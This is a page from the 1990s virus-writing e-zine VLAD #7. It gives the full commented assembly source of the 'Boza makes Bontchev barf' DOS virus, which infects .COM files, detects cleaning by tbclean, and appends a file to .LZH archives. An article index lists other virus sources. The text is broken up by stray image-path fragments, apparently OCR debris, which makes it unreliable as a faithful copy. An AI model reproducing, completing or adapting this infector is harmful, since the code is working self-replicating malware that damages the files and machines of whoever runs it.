Virus Labs & Distribution
VLAD #7 - Boza Makes Bontchev Barf Virus

; "Boza makes Bontchev barf"
;                   by Metabolis.
; When the virus istbcleaned and run it will print either..
;      "Bad command or filename"                ; if port 40h holds a value
;                                               ; lower than 0d2h.
;       or
;      "Call this virus what you will.          ; if it's higher.
;       Boza still makes Bontchev barf :P"
; The virus will then fix itself so if the user is stupid enough
; to run it again it will keep infecting.  (Well, in a sense they're
; not stupid, after all.. the file will work again, damn destructive
; tbclean :)
; If there are any .lzh files in the current directory the virus will
; add a small com file to them all.  (note: it doesn't check if the
; archives have already been added to, so it just adds the file again,
; no harm.. just takes up more precious hdd space I guess)
; Files larger than 0fab0h, smaller than 1002, CO as the first two
; characters, starting with 0e9h,00,00 or with numbers in the filename
; won't be infected.
; I'm sure there is a lot of code here that could be optimized.
; It's lucky I don't care :)
; a86 bmbb.asm

        org     100h

        db      0e9h,00,00                      ; jump along

        mov     bx,0FECEh                       ; initialize tbclean check

        mov     word ptr [101h],(die-star)-3    ; move the address of "die"
        mov     ax,100h                         ; to 101h then jump there.
        jmp     ax
                                                ; it then jumps to die.

        db      " 'Boza makes Bontchev Barf' by Metabolis "

        ; when the virus is tbcleaned (tbclean never did handle
        ; prependers correctly.) it gets written back to disk
        ; with the jump to die still at 100h, so if bx ain't FECE
        ; it has been cleaned.

counter db      00h

        mov     word ptr[101h],0000h            ; fix initial jump.

        cmp     bx,0FECEh                       ; we been cleaned?je      keepgoin                        ; no, keep going.

        in      al,40h                          ; grab us a number
        cmp     al,0d2h                         ; compare al to 210
        jb      badcom                          ; below?

        mov     dx,offset barf                  ; boza makes bontchev barf.
        jmp     print

        mov     dx,offset badcomm               ; bad command or filename.

        mov     ah,9                            ; display stuph from ds:dx
        int     21h

        push    ds                              ; we'll be needing thismov     si,word ptr[2ch]                ; get env seg from psp

        push    si
        pop     ds                              ; change ds to env seg

        xor     bp,bp

        mov     bx,word ptr ds:[bp]             ; grab a byte from env
        inc     bp
        cmp     bx,0000h
        jne     loopme
        inc     bp
        mov     bx,word ptr ds:[bp]
        cmp     bx,0001h
        jne     loopme

        inc     bp
        inc     bp

        mov     ax,3d01h                        ; open the current file
        mov     dx,bp
        int     21h

        xchg    ax,bx                           ; the usual.

        pop     dsmov     ah,40h                          ; write 3 bytes that will
        mov     cx,3                            ; fix the virus back up.
        mov     dx,star
        int     21h

        movah,3eh                          ; close file
        int     21h

        mov     ax,4c00h                        ; time to retreat.
        int     21h


        mov     byte ptr[counter],00h

        mov     ah,1Ah
        mov     dx,word ptr[total]              ; relocate the dta
        int     21h                             ; to the very end of the virus
                                                ; (plus infectee length)
        mov     ah,4eh
        mov     cx,7                            ; find first file
        mov     dx,offset fmask
        int     21hjnc     checks                          ; no error? check it out.
        jmp     returnhost

        mov     bp,word ptr[total]              ; put filesize in cx
        mov     cx,word ptr[bp+1ah]

        cmp     cx,0fab0h                       ; too big?
        ja      findn

        cmp     cx,1002                         ; too small?
        jb      findn

        cmp     word ptr[bp+1eh],'OC'           ;
        je      findn

        mov     si,bp
        mov     cx,8
        xor     ax,ax

        cmp     byte ptr [si+1eh],30h           ; this routine checks to
        jb      cont                            ; see if there are any
        cmp     byte ptr [si+1eh],39h           ; numbers in the filename
        ja      cont                            ; of the infectee.
        jmp     findn

        inc     si
        loop    looptime

        mov     ax,4301h
        lea     dx,[bp+1eh]                     ; fix up the attributes
        mov     cx,20h                          ; to nothing incase the
        int     21h                             ; file is read only or
        jc      findn                           ; something.

        mov     ax,3d02;                        ; open file for read/write
        lea     dx,[bp+1eh]
        int     21h
        jnc     fixhandle
        jmp     fn

        xchg    bx,ax

        mov     ah,03fh                         ; read 3 bytes from filemov     cx,3                            ; put in temp
        mov     dx,offset temp
        int     21h

        cmp     word ptr[temp],00e9h            ; file infected?
        je      fn

        mov     cx,word ptr[temp]
        add     cl,ch
        cmp     cl,167                          ; an incognito EXE?
        je      fn

        jmp     pushups

        jmp     findnext                        ; damn jumps > 128 :|

        mov     ax,4200h                        ; seek to the beginning
        cwd                                     ; of the file
        xor     cx,cx
        int     21h

        call    sof

        mov     ah,03fh
        mov     cx,en-star                      ; read start of infectee
        mov     dx,word ptr[total]              ; and put it after the
        add     dx,42                           ; relocated DTA
        mov     si,dx
        int     21h

        mov     cx,word ptr[total]              ; could probably push
        mov     word ptr[temp],cx               ; word ptr [total] heh

        mov     cx,word ptr[bp+1ah]
        add     cx,100h                         ; fix up the new total
        add     cx,(en-star)                    ; file length of the infectee
        mov     word ptr[total],cx              ; (+100h)call    sof

        mov     ah,40h
        mov     cx,en-star                      ; write virus to file
        movdx,star
        int     21h

        mov     cx,word ptr[temp]               ; restore total
        mov     word ptr[total],cx

        mov     ax,4202h                        ; seek to end of file
        call    sof+3

        mov     ah,40h                          ; write the overwritten
        mov     cx,en-star                      ; infectee code to the
        lea     dx,[si]                         ; end of the file.
        int     21h
        jc      fn

        inc     byte ptr[counter]               ; increment that infect cntr.

        mov     cl,byte ptr[bp+15h]             ; restore original
        lea     dx,[bp+1eh]                     ; attributes to the file
        mov     ax,4301h
        int     21h

        mov     cx,word ptr[bp+16h]             ; restore date and time
        mov     dx,word ptr[bp+18h]
        mov     ax,5701h
        int     21h

        mov     ah,3eh                          ; close file
        int     21h

        cmp     byte ptr[counter],1             ; infected a file?
        je      returnhost                      ; yea, we out.

        mov     ah,4fh                          ; find another file.
        int     21h
        jc      returnhost
        jmp     checks                          ; open it up


        mov     ah,4eh
        mov     cx,7                            ; find first lzh
        mov     dx,offset fmask2
        int     21h
        jc      audi

        mov     ax,3d01hlea     dx,[bp+1eh]                     ; open it up for write axs
        int     21h

        xchg    ax,bx                           ; fix the file handle

        mov     ax,4201h                        ; goto eof-1
        mov     dx,word ptr[bp+1ah]
        dec     dx
        xor     cx,cx
        int     21h

        mov     ah,40h                          ; write the lzh header
        mov     cx,enddump-dump
        mov     dx,offset dump
        int     21hmov     ah,3eh                          ; close the file
        int     21h

        mov     ah,4fh                          ; find another file.
        int     21h
        jc      audi                            ; error? .. we out
        jmp     openlzh

        mov     ah, 1ah
        mov     dx, 80h                         ; DTA back to 80h
        int     21h

        mov     si,offset proced
        mov     di,word ptr[total]              ; move the return to host
        mov     cx,proceden-proced              ; code to the end of
        rep     movsb                           ; everything so it doesn't
        mov     ax,word ptr[total]              ; get overwritten.
        jmp     ax

        mov     si,word ptr[total]sub     si,en-star                      ; put everything back at
        mov     di,100h                         ; 100h like it should be.
        mov     cx,en-star
        rep     movsb

        mov     ax,100h                         ; ribbit.
        jmp     ax

barf    db      "Call this virus what you will.",0dh,0ah
        db      "Boza still makes Bontchev barf :P$"

db 31,68,45,108,104,53,45,98,0,0,0              ; a useless com file
db 109,0,0,0,118,90,91,32,32,1,6
db 66,66,46,67,79,77,24,170,77,0,0
db 0,99,82,118,174,39,3,52,69,6,127
db 240,96,208,247,128,204,12,79,185,191,195
db 77,93,80,188,189,225,67,11,79,124,30
db 227,56,0,20,184,187,245,221,57,235,200
db 199,186,135,111,132,82,2,149,108,146,150
db 60,218,70,210,92,204,140,163,65,237,156
db 225,125,177,35,189,173,35,83,26,185,24
db 141,13,5,115,111,231,84,144,223,70,238
db 139,227,11,252,154,39,168,118,158,192,0

badcomm db      "Bad command or file name",0dh,0ah,"$"

fmask   db      "*.c?m",00h
fmask2  db      "*.lzh",00h
temp    db      00,00,00
total   dw      ((en-star)*2)+100h


host:                                           ; our little host program
        mov     ah,9
        mov     dx,0109h
        int     21h
        int     20h
        db      "Did you really want to run this?",0dh,0ah
        db      "Metabolis - 1996","$"



ARTICLE.1_2       Aims and Policies
ARTICLE.1_3       Greets
ARTICLE.1_4       Members/Joining
ARTICLE.1_5       Dist/Contact Info
ARTICLE.1_6       Hidden Area Info
ARTICLE.1_7       Coding the MagNo Flags
ARTICLE.2_2       Goodbye Virus
ARTICLE.2_3       Boot Sector Tutorial
ARTICLE.2_4       STAOG Linux Virus
ARTICLE.2_5       Pow Boot Virus
ARTICLE.2_6       Wulf2ARTICLE.2_7       Tbscan Internals


VLAD Viruses
ARTICLE.3_2       TVIR600
ARTICLE.3_3       Vecna Boot Virus
ARTICLE.3_4       Padania Virus
ARTICLE.3_5       HooDoo Virus
ARTICLE.3_6       Pandemonium Virus
ARTICLE.3_7       BlackLotus


Zip Virus
ARTICLE.4_2       Archive Infect
ARTICLE.4_3       Virstop Article
ARTICLE.4_4       Boza Makes Bontchev Barf Virus
ARTICLE.4_5       Killer Virus
ARTICLE.4_6       Muraroa End
ARTICLE.4_7       Mages Fury

About VLAD - Links - Contact Us - Main